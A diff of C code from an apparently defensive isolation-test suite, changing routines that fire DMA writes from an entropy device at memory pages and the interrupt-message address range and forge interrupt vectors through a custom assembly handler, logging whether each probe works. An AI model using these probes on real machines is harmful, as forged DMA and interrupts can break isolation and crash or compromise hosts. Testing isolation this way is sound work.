@@ -88,7 +88,7 @@ static void scatter(const char *name, uint64_t start, uint64_t count, uint64_t s
 }
 void attack_entropy(const char *argument) {
     (void)argument;
-    static volatile uint64_t target[2];
+    static _Alignas(4096) volatile uint64_t target[512];
     if (!entropy_start()) return attempt("entropy-own", "no-source");
     announce("entropy", "own");
     target[0] = target[1] = 0;
@@ -100,14 +100,14 @@ void attack_entropy(const char *argument) {
     scatter("entropy-window", 0x80000000, 2020, 1 << 20);
     scatter("entropy-above", 1ull << 32, 512, 1 << 21);
     scatter("entropy-far", 1ull << 36, 256, 1ull << 32);
-    // Its own queue as the target.
-    announce("entropy", "queue");
+    announce("entropy", "pages");
     for (uint32_t i = 0; i < 64; i++)
-        if (!entropy_write((uint64_t)&target & ~4095ull, 4096) && !entropy_start()) break;
-    attempt("entropy-queue", "%s", entropy_start() && entropy_write((uint64_t)target, 16) ? "works" : "dead");
+        if (!entropy_write((uint64_t)target, sizeof target) && !entropy_start()) break;
+    attempt("entropy-after", "%s", entropy_start() && entropy_write((uint64_t)target, 16) ? "works" : "dead");
 }
 
-// Own entries of the table deliver any vector from 16 on: those below 32 come as interrupts too, without error codes.
+// Own entries of the table deliver any vector from 16 on: those below 32 come as interrupts too, without error codes. The
+// spurious vector's must be ended here, which an interrupt of the local APIC's own must not.
 asm(".text\nforged: pushq %rax\n pushq %rcx\n pushq %rdx\n movl $0x80B, %ecx\n xorl %eax, %eax\n xorl %edx, %edx\n wrmsr\n"
     "lock incq forged_low\n popq %rdx\n popq %rcx\n popq %rax\n iretq\n");
 extern const char forged[], vectors[];
@@ -120,7 +120,7 @@ void attack_forge(const char *argument) {
     uint32_t tried = 0, ended = 0;
     uint64_t before = 0, after = 0, nmis = interrupts[2];
     if (!entropy_start()) return attempt("forge-handles", "no-source");
-    for (uint32_t v = 16; v < 32; v++) set_gate(v, (uint64_t)forged);
+    for (uint32_t v = 16; v < 256; v = v == 31 ? SPURIOUS_VECTOR : v + 1) set_gate(v, (uint64_t)forged);
     for (uint32_t v = 32; v < 256; v++) before += interrupts[v];
     announce("forge", "");
     interrupts_on();
@@ -130,8 +130,6 @@ void attack_forge(const char *argument) {
         else if (!entropy_start()) break;
     }
     delay_us(100000);
-    interrupts_off();
-    for (uint32_t v = 16; v < 32; v++) set_gate(v, (uint64_t)vectors + v * 16);
     for (uint32_t v = 32; v < 256; v++) after += interrupts[v];
     attempt("forge-handles", "%u-tried,%u-ended,%lu-own,%lu-nmis", tried, ended, after - before + forged_low,
             interrupts[2] - nmis);
@@ -141,7 +139,10 @@ void attack_forge(const char *argument) {
     for (uint32_t handle = 0; handle < 65536; handle += 509, tried++)
         if (entropy_write(0xFEE00018 | (uint64_t)(handle & 0x7FFF) << 5 | (uint64_t)(handle >> 15) << 2, 4)) ended++;
         else if (!entropy_start()) break;
-    attempt("forge-subhandles", "%u-tried,%lu-nmis", tried, interrupts[2] - nmis);
+    delay_us(100000);
+    interrupts_off();
+    for (uint32_t v = 16; v < 256; v = v == 31 ? SPURIOUS_VECTOR : v + 1) set_gate(v, (uint64_t)vectors + v * 16);
+    attempt("forge-subhandles", "%u-tried,%u-ended,%lu-nmis", tried, ended, interrupts[2] - nmis);
 }
 
 void attack_dma(const char *argument) {
